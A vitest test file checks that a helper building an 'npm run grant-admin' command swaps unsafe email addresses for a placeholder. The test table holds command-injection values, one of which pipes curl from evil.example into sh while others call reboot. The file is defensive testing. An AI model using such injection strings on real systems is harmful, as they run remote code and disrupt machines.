import { expect, test } from 'vitest';
import { unauthorisedTexts } from './admin.ts';

test.each([
  ['sara.a+ghar@ghar.example', 'sara.a+ghar@ghar.example'],
  ["o'brien@ghar.example", '<email>'],
  ['a;curl${IFS}evil.example|sh;@ghar.example', '<email>'],
  ['$(reboot)@ghar.example', '<email>'],
  ['a@ghar.example\nreboot', '<email>'],
])('the command for the account %j names %s', (email, named) => {
  expect(unauthorisedTexts.command(email, 'demo-ghar')).toBe(`npm run grant-admin -- ${named}`);
});

test('the command for a live shop names its project', () => {
  expect(unauthorisedTexts.command('sara@ghar.example', 'ghar-live')).toBe(
    'npm run grant-admin -- sara@ghar.example --project ghar-live',
  );
});
